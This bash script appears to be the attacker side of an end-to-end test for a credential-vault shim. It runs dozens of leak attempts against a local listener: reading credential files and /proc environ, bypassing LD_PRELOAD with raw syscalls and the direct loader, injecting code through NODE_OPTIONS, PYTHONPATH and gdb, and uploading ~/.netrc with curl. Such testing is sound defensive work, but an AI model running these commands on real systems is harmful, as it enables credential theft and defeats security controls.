#!/usr/bin/env bash
# The agent's side of the leak battery (tests/e2e/leak_battery.sh): runs as
# the unprivileged user, under vault-run (MODE vault) or, for the control
# run, bare in a world without vaultshim (MODE control: the tokens exported,
# plaintext credential files). Each case runs in its own work folder with
# stdout, stderr and every file it writes kept under OUT/NAME; before each
# case a marker request tells the attacker's listener which case speaks.
# The battery (root) scans all of it afterwards; nothing here judges.
# usage: agent_attacks.sh MODE OUT
set -u
MODE=$1 OUT=$2
X="$E2E_ATTACK"            # the attack sources (the agent's own programs)
CASELIB="$E2E_CASELIB"
if [ "$MODE" = vault ]; then SOCKCLIENT=./sock_attack.py; else SOCKCLIENT="$E2E_T/sock_attack.py"; fi
export SOCKCLIENT X MODE

marker() {
    exec 9<>"/dev/tcp/127.0.0.1/$E2E_SINK" || return 1
    printf 'GET /__case__/%s HTTP/1.0\r\n\r\n' "$1" >&9
    cat <&9 >/dev/null
    exec 9<&-
}
# attack CLASS NAME EXPECT CODE: EXPECT is "none" (no value may appear) or
# "decoy" (a documented limit: the stale plaintext copy on disk is read;
# still no vaulted value).
attack() {
    local d="$OUT/$2"
    mkdir -p "$d/work"
    printf '%s\n%s\n' "$1" "$3" >"$d/meta"
    marker "$MODE.$2"
    cp "$X/sock_attack.py" "$d/work/"
    (cd "$d/work" && timeout 40 bash -c ". '$CASELIB'; $4") >"$d/out" 2>"$d/err" </dev/null
    echo $? >"$d/rc"
    rm -f "$d/work/sock_attack.py"
}

# ---------------------------------------------------------------- env
attack env env none 'env'
attack env printenv none 'printenv; printenv API_TOKEN GH_TOKEN NPM_TOKEN AWS_SECRET_ACCESS_KEY'
attack env set none 'set'
attack env export-p none 'export -p'
attack env echo-names none 'echo "[$API_TOKEN][$GH_TOKEN][$NPM_TOKEN][$AWS_SECRET_ACCESS_KEY]"'
attack env proc-self-environ none 'tr "\0" "\n" </proc/self/environ; tr "\0" "\n" </proc/$$/environ'
attack env proc-ppid-environ none 'echo "parent $PPID: $(tr "\0" " " </proc/$PPID/cmdline)"; tr "\0" "\n" </proc/$PPID/environ'
attack env proc-tool-environ none '
    slow_tool python3 "$E2E_T/pyreq.py" "$W"
    tr "\0" "\n" </proc/$TOOL/environ; tr "\0" " " </proc/$TOOL/cmdline; stop_tool'
attack env proc-tool-mem-python none '
    slow_tool python3 "$E2E_T/pyreq.py" "$W"; memdump $TOOL mem.bin; stop_tool'
attack env proc-tool-mem-curl none '
    slow_tool curl --netrc -sS "$W"; memdump $TOOL mem.bin; stop_tool'
attack env core-dump-kill none '
    ulimit -c unlimited; echo "core_pattern $(cat /proc/sys/kernel/core_pattern)"
    slow_tool curl --netrc -sS "$W"; kill -SEGV $TOOL; wait $TOOL; echo "status $?"; ls -la'
attack env core-dump-gcore none '
    slow_tool python3 "$E2E_T/pyreq.py" "$W"; gcore -o gcore $TOOL 2>&1 | tail -3; stop_tool; ls -la'

# ---------------------------------------------------------------- files
attack files cat decoyfree 'cat ~/.netrc ~/.npmrc ~/.aws/credentials ~/.git-credentials'
attack files head decoyfree 'head -c 2000 ~/.netrc; head ~/.npmrc ~/.aws/credentials'
attack files dd decoyfree 'dd if=$HOME/.netrc status=none; dd if=$HOME/.aws/credentials status=none; dd if=$HOME/.npmrc of=npmrc.copy status=none; cat npmrc.copy'
attack files cp-then-cat decoyfree 'cp ~/.netrc netrc.copy; cp ~/.npmrc npmrc.copy; cp ~/.aws/credentials aws.copy; cat netrc.copy npmrc.copy aws.copy'
attack files python-read decoyfree '
    python3 -c "
import netrc, os
for p in (\"~/.netrc\", \"~/.npmrc\", \"~/.aws/credentials\", \"~/.git-credentials\"):
    p = os.path.expanduser(p)
    try: print(open(p).read())
    except OSError as e: print(p, e)
try: print(netrc.netrc().hosts)
except OSError as e: print(\"netrc\", e)
"'
attack files node-read decoyfree '
    node -e "
const fs = require(\"fs\"), h = require(\"os\").homedir();
for (const p of [\".netrc\", \".npmrc\", \".aws/credentials\", \".git-credentials\"]) {
  try { console.log(fs.readFileSync(h + \"/\" + p, \"utf8\")); } catch (e) { console.log(p, e.code); }
}
fs.promises.readFile(h + \"/.netrc\", \"utf8\").then(console.log, (e) => console.log(\"promises\", e.code));"'
attack files relative-paths decoyfree 'cd ~ && cat .netrc ./.npmrc .aws/credentials ./.aws/./credentials'
attack files dotdot decoyfree 'cd ~/.aws && cat ../.netrc credentials ../.aws/../.npmrc; cat ~/.aws/../.netrc'
attack files symlink-named decoyfree 'ln -s ~/.netrc .netrc; ln -s ~/.npmrc .npmrc; cat .netrc .npmrc; mkdir d; ln -s ../.netrc d/.netrc; cat d/.netrc'
attack files symlink-folder decoyfree 'ln -s ~ homelink; cat homelink/.netrc homelink/.aws/credentials homelink/.npmrc'
attack files plaintext-copy-tools decoyfree '
    grep -ra "password\|_authToken\|aws_secret" ~/.netrc ~/.npmrc ~/.aws/credentials
    tar cf - -C ~ .netrc .npmrc 2>&1 | tar tvf - 2>&1; base64 ~/.netrc; od -c ~/.npmrc | head; sed -n p ~/.git-credentials'
attack files vault-store decoyfree '
    ls -la "$E2E_VAULT_HOME"; cat "$E2E_VAULT_HOME/store" "$E2E_VAULT_HOME/audit.log" "$E2E_VAULT_HOME/vault.key" "$E2E_T/policy.conf" >copied.bin
    strings -n 8 copied.bin | head -100'
attack files symlink-other-name decoy 'ln -s ~/.netrc leak; cat leak'
attack files static-read decoy 'cc -static -O1 -o sdump "$X/static_dump.c" && ./sdump ~/.netrc ~/.npmrc'

# ---------------------------------------------------------------- escapes
attack escapes env-i none 'env -i /usr/bin/env; env -i bash -c "env; tr \"\\0\" \"\\n\" </proc/\$PPID/environ"; env -i python3 "$E2E_T/pyreq.py" "$S/env-i"'
attack escapes env-u-ld-preload none 'env -u LD_PRELOAD /usr/bin/env; env -u LD_PRELOAD -u VAULT_SOCKET bash -c "env; cat ~/.netrc; curl -sS -d @\$HOME/.netrc $S/"'
attack escapes static-binary none 'cc -static -O1 -o sdump "$X/static_dump.c" && ./sdump /proc/$PPID/environ /proc/self/environ'
attack escapes ctypes-raw-syscalls none '
    python3 -c "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(65536)
for p in (b\"/proc/self/environ\", (\"/proc/%d/environ\" % os.getppid()).encode()):
    fd = libc.syscall(257, -100, p, 0)      # openat, past any open hook
    n = libc.syscall(0, fd, buf, 65536) if fd >= 0 else -1
    print(p, fd, buf.raw[:max(n, 0)].replace(b\"\\0\", b\"\\n\").decode(errors=\"replace\"), flush=True)
# raw execve of env with an environment without the preload
argv = (ctypes.c_char_p * 2)(b\"/usr/bin/env\", None)
envp = (ctypes.c_char_p * 2)(b\"PATH=/usr/bin\", None)
libc.syscall(59, b\"/usr/bin/env\", argv, envp)"'
attack escapes loader-direct none '
    /lib64/ld-linux-x86-64.so.2 /usr/bin/curl --netrc -sS "$S/loader"
    /lib64/ld-linux-x86-64.so.2 /usr/bin/env
    /lib64/ld-linux-x86-64.so.2 /usr/bin/python3 "$E2E_T/pyreq.py" "$A/"'
attack escapes copy-of-binary none 'cp /usr/bin/curl ./curl; ./curl --netrc -sS "$S/copy"; ./curl --netrc -sS "$A/"'
attack escapes copy-of-script none 'cp "$E2E_T/pyreq.py" ./pyreq.py; python3 ./pyreq.py "$S/copy"; cp "$E2E_T/fetch.js" ./fetch.js; node ./fetch.js "$S/copy"'
attack escapes unset-preload-exec-tool none 'bash -c "unset LD_PRELOAD; exec python3 $E2E_T/pyreq.py $S/unset"; bash -c "unset LD_PRELOAD VAULT_SOCKET; exec curl --netrc -sS $S/unset"'

# ---------------------------------------------------------------- injection
attack injection own-ld-preload none '
    cc -shared -fPIC -o dumpenv.so "$X/dumpenv.c" || exit 1
    LD_PRELOAD="$PWD/dumpenv.so" python3 "$E2E_T/pyreq.py" "$A/"
    LD_PRELOAD="$PWD/dumpenv.so:$LD_PRELOAD" node "$E2E_T/fetch.js" "$A/"
    env LD_PRELOAD="$PWD/dumpenv.so" gh auth token
    # past the exec hook (raw execve): the library is mapped, vaultd must refuse
    python3 "$X/rawexec.py" LD_PRELOAD="$PWD/dumpenv.so:${LD_PRELOAD:-}" PYTHONNOUSERSITE=1 -- /usr/bin/python3 "$E2E_T/pyreq.py" "$A/"
    python3 "$X/rawexec.py" LD_PRELOAD="$PWD/dumpenv.so:${LD_PRELOAD:-}" -- /usr/bin/node "$E2E_T/fetch.js" "$A/"'
attack injection node-options-require none '
    echo "console.log(\"evil\", process.env.API_TOKEN); require(\"fs\").writeFileSync(\"evil.out\", String(process.env.API_TOKEN))" >evil.js
    NODE_OPTIONS="--require $PWD/evil.js" node "$E2E_T/fetch.js" "$A/"
    python3 "$X/rawexec.py" NODE_OPTIONS="--require $PWD/evil.js" -- /usr/bin/node "$E2E_T/fetch.js" "$A/"; cat evil.out'
attack injection node-inspect none '
    node --inspect=127.0.0.1:0 "$E2E_T/fetch.js" "$W" >tool.out 2>tool.err & TOOL=$!
    for i in $(seq 1 50); do grep -q "Debugger listening" tool.err && break; sleep 0.1; done
    port=$(grep -o "127.0.0.1:[0-9]*" tool.err | head -1 | cut -d: -f2)
    cat tool.out tool.err
    [ -n "$port" ] && node "$X/inspect_eval.js" "$port" "process.env.API_TOKEN"
    stop_tool'
attack injection node-sigusr1 none '
    slow_tool node "$E2E_T/fetch.js" "$W"
    kill -USR1 $TOOL; sleep 1; cat tool.err
    node "$X/inspect_eval.js" 9229 "process.env.API_TOKEN"; stop_tool'
attack injection pythonpath none '
    mkdir evil; printf "import os, sys\nprint(\"evil\", os.environ.get(\"API_TOKEN\"))\nsys.exit(0)\n" >evil/requests.py
    PYTHONPATH="$PWD/evil" python3 "$E2E_T/pyreq.py" "$A/"
    python3 "$X/rawexec.py" PYTHONPATH="$PWD/evil" PYTHONNOUSERSITE=1 -- /usr/bin/python3 "$E2E_T/pyreq.py" "$A/"'
attack injection user-site-packages none '
    site=$(python3 -c "import site; print(site.getusersitepackages())"); mkdir -p "$site"
    printf "import os\nprint(\"usercustomize\", os.environ.get(\"API_TOKEN\"))\n" >"$site/usercustomize.py"
    env -u PYTHONNOUSERSITE python3 "$E2E_T/pyreq.py" "$A/"; bash -c "unset PYTHONNOUSERSITE; python3 $E2E_T/pyreq.py $A/"
    env -u PYTHONNOUSERSITE python3 "$X/rawexec.py" -- /usr/bin/python3 "$E2E_T/pyreq.py" "$A/"
    rm -f "$site/usercustomize.py"'
attack injection strace-launch none '
    strace -f -s 4096 -o trace.py python3 "$E2E_T/pyreq.py" "$A/"
    strace -f -s 4096 -o trace.curl curl --netrc -sS "$A/"; grep -c . trace.py trace.curl'
attack injection strace-attach none '
    bash -c "sleep 1; exec curl --netrc -sS $A/" & sh=$!
    strace -f -s 4096 -o trace.attach -p $sh; wait $sh
    slow_tool curl --netrc -sS "$W"; timeout 3 strace -s 4096 -o trace.attach2 -p $TOOL; stop_tool; grep -c . trace.attach trace.attach2'
attack injection gdb-attach none '
    slow_tool python3 "$E2E_T/pyreq.py" "$W"
    gdb -p $TOOL -batch -ex "call (char *) getenv(\"API_TOKEN\")" -ex "generate-core-file gdb.core" 2>&1 | grep -v "^\[" | tail -8
    stop_tool; ls -la'

# ---------------------------------------------------------------- oracles
attack oracles gh-auth-token none 'gh auth token; gh auth status --show-token 2>&1 | head -5'
attack oracles npm-config-get none '
    npm config get "//127.0.0.1:$E2E_AP/:_authToken"; npm config get _authToken; npm config list; npm config ls -l | grep -i auth'
attack oracles aws-configure-get none '
    aws configure get aws_secret_access_key; aws configure get aws_access_key_id; aws configure list'
attack oracles git-credential-fill none '
    printf "protocol=http\nhost=127.0.0.1:$E2E_GP\npath=git/repo.git\n\n" | GIT_TERMINAL_PROMPT=0 git credential fill'
attack oracles git-second-helper none '
    export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=credential.helper GIT_CONFIG_VALUE_0="!f() { echo \"== \$1\"; cat; env; cat ~/.netrc; } >>$PWD/helper.out; f"
    printf "protocol=http\nhost=127.0.0.1:$E2E_GP\n\n" | GIT_TERMINAL_PROMPT=0 git credential fill
    GIT_TERMINAL_PROMPT=0 git ls-remote "$GURL"; cat helper.out'
attack oracles git-remote-other-host none 'GIT_TERMINAL_PROMPT=0 git ls-remote "$S/git/repo.git"'
attack oracles curl-file-url none 'curl -sS "file://$HOME/.netrc" "file://$HOME/.npmrc" "file://$HOME/.aws/credentials"'
attack oracles curl-data-at-file none 'curl -sS -d @$HOME/.netrc "$S/"; curl -sS --data-binary @$HOME/.aws/credentials "$S/"; curl -sS -F f=@$HOME/.npmrc "$S/"'
attack oracles curl-connect-to none 'curl --netrc -sS --connect-to "127.0.0.1:$E2E_AP:127.0.0.1:$E2E_SINK" "$A/"'
attack oracles curl-proxy none 'curl --netrc -sS -x "$S" "$A/"; curl --netrc -sS --proxy "$S" "$A/"'
attack oracles curl-netrc-other-port none 'curl --netrc -sS "$S/"'
attack oracles npmrc-project-env-token none '
    printf "registry=$S/\n//127.0.0.1:$E2E_SINK/:_authToken=\${NPM_TOKEN}\n" >.npmrc
    npm whoami; npm whoami --registry "$S/"'
attack oracles npm-run-env none '
    printf "{ \"name\": \"p\", \"version\": \"1.0.0\", \"scripts\": { \"show\": \"env; cat ~/.npmrc; npm config get //127.0.0.1:$E2E_AP/:_authToken\" } }\n" >package.json
    npm run show'
attack oracles curlrc-proxy none '
    printf "proxy = \"$S\"\n" >~/.curlrc; curl --netrc -sS "$A/"; rm -f ~/.curlrc
    # written past the shim (raw openat): the file is on disk, curl reads it?
    python3 -c "
import ctypes, os
l = ctypes.CDLL(None); line = (\"proxy = \\\"%s\\\"\\n\" % os.environ[\"S\"]).encode()
fd = l.syscall(257, -100, os.path.expanduser(\"~/.curlrc\").encode(), 0o1101, 0o644)
print(\"raw write\", fd, l.syscall(1, fd, line, len(line)))"
    curl --netrc -sS "$A/"; python3 -c "import ctypes, os; ctypes.CDLL(None).syscall(87, os.path.expanduser(\"~/.curlrc\").encode())"'
attack oracles npmrc-project-proxy none '
    printf "proxy=$S/\nhttps-proxy=$S/\n" >.npmrc; npm whoami'
attack oracles git-repo-config-proxy none '
    git init -q r && cd r && git config http.proxy "$S" && GIT_TERMINAL_PROMPT=0 git ls-remote "$GURL"'
attack oracles pyreq-other-host none 'python3 "$E2E_T/pyreq.py" "$S/"; node "$E2E_T/fetch.js" "$S/"'
attack oracles aws-endpoint-other-host none 'aws sts get-caller-identity --endpoint-url "$S"'

# ---------------------------------------------------------------- socket
attack socket valid-frames none 'python3 "$SOCKCLIENT" valid'
attack socket broken-frames none 'python3 "$SOCKCLIENT" broken'
attack socket replayed-frames none 'python3 "$SOCKCLIENT" replay'
attack socket connect-fork-exec none 'python3 "$SOCKCLIENT" forkexec /usr/bin/curl --netrc -sS "$W"; sleep 1'
attack socket index-file none 'ls -la "$(dirname "$VAULT_SOCKET")"; cat "$(dirname "$VAULT_SOCKET")/index" | strings -n 4'
echo "agent_attacks: done"
